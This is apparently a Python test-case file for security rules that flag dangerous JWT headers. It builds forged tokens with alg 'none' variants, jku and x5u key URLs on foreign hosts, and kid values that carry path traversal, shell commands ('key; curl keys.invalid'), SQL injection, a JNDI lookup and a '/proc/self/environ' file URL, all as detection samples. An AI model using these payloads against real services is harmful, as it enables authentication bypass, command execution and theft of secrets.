"""cases of the A rules: the JOSE header asks for trouble."""
import base64

from minting import b64u, compact, jws, v2_claims
from rulecases.common import (ADA, EC, GOOGLE_KID, NOW, OTHER, alb, background, cognito, google, hit, minor, miss,
                              noise, oidc, s2s, uti, v2)


def a01(m):
    def none(alg, status=200):
        header = {"typ": "JWT", "kid": m.organisations.kid}
        if alg is not None:
            header["alg"] = alg
        return lambda now: jws(None, header, v2_claims(ADA, now - 600, 4500, uti(f"{now}")))

    def request_object(now):
        return jws(None, {"alg": "none", "typ": "oauth-authz-req+jwt"},
                   {"iss": "client-1", "aud": "https://idp.contoso.example", "response_type": "code",
                       "client_id": "client-1"})

    def jwe(now):
        header = b64u(compact({"alg": "dir", "enc": "A256GCM", "typ": "JWT"}))
        return ".".join([header, "", b64u(noise("iv", 12)), b64u(noise("ciphertext", 200)), b64u(noise("tag", 16))])
    return [
        hit("alg none", none("none")),
        hit("alg None", none("None"), status=401),
        hit("alg nOnE", none("nOnE")),
        hit("alg NONE with blanks around", none(" NONE ")),
        hit("alg empty", none("")),
        hit("alg missing", none(None)),
        hit("alg none, but a signature behind it", lambda now: none("none")(now) + b64u(noise("rsa", 256))),
        miss("SharePoint server-to-server: outer none, signed actor token inside", s2s),
        miss("the word none as a claim", v2(m.organisations, alg="none", acr="none")),
        miss("an unsigned request object in the URL",
            path="/authorize?client_id=client-1&request=" + request_object(NOW)),
        miss("encrypted token, alg dir: the key part is empty, not the alg", jwe),
        miss("ES256", oidc("https://idp.contoso.example", EC)),
        miss("a key id that says none", v2(m.organisations, header={"kid": "none"})),
    ] + background(m)


def a05(m):
    good = "https://login.microsoftonline.com/common/discovery/v2.0/keys"
    acme = compact({"protected": b64u(compact({"alg": "ES256", "jku": "https://keys.invalid/set", "nonce": "n",
        "url": "https://acme.example/new"})),
                    "payload": "", "signature": b64u(noise("ec", 64))})
    return [
        hit("jku at another host", v2(m.organisations, header={"jku": "https://keys.invalid/set.json"})),
        hit("jku over http", v2(m.organisations, header={"jku": good.replace("https", "http")})),
        hit("jku at an address", v2(m.organisations, header={"jku": "https://203.0.113.9/keys"})),
        hit("jku with the real host as userinfo", v2(m.organisations,
            header={"jku": "https://login.microsoftonline.com@keys.invalid/k"})),
        hit("x5u at another host", v2(m.organisations, header={"x5u": "https://keys.invalid/cert.pem"})),
        minor("jku of an issuer nobody described", oidc("https://idp.contoso.example",
            header={"jku": "https://idp.contoso.example/jwks"})),
        miss("jku at the issuer's own origin", v2(m.organisations, header={"jku": good})),
        miss("jku as a claim, not in the header", v2(m.organisations, jku="https://keys.invalid/set.json")),
        miss("ACME-like JWS in a body", method="POST", path="/acme/new-order", body=acme, status=201,
             headers=[("Content-Type", "application/jose+json")]),
    ] + background(m)


def a08(m):
    def kid(text, **kw):
        return v2(OTHER, header={"kid": text}, **kw)
    return [
        hit("a path upwards", kid("../../../../../../dev/null")),
        hit("an absolute path", kid("/dev/null")),
        hit("a pipe", kid("|sleep 10")),
        hit("a command after a semicolon", kid("key; curl keys.invalid")),
        hit("SQL", kid("x' UNION SELECT '1';--")),
        hit("an expression", kid("${jndi:ldap://keys.invalid/a}")),
        hit("a web address, which this issuer never takes for a key id", kid("https://keys.invalid/key.pem")),
        hit("a file's URL, whoever the issuer", oidc("https://idp.contoso.example",
            header={"kid": "file:///proc/self/environ"})),
        hit("a control character", kid("key\n1")),
        hit("empty", kid("")),
        hit("257 bytes", kid("k" * 257)),
        miss("256 bytes", kid("k" * 256)),
        miss("Cognito: standard base64 with slashes and plus", cognito),
        miss("Google: 40 hex digits", google()),
        miss("ALB: a UUID", alb),
        miss("Auth0's old 54 characters", oidc("https://contoso.eu.auth0.com/",
            header={"kid": b64u(GOOGLE_KID.upper().encode())})),
        miss("dots, colons, dashes", kid("prod:2026-01.key..2")),
        miss("a mail address", kid("svc@contoso.example")),
        miss("a key vault's key: its web address is its id, and nobody described the issuer", oidc(
            "https://idp.contoso.example",
            header={"kid": "https://contoso.vault.azure.net/keys/token-signing/0a1b2c3d11114222833344445555aaaa"})),
        miss("no kid at all", v2(OTHER, header={"kid": None})),
        miss("an HTTP signature: its keyId is a URL",
            'keyId="https://social.example/users/a#main-key",algorithm="rsa-sha256",'
             'headers="(request-target) date",signature="' + base64.b64encode(noise("http signature",
                 128)).decode() + '"', scheme="Signature"),
    ] + background(m)
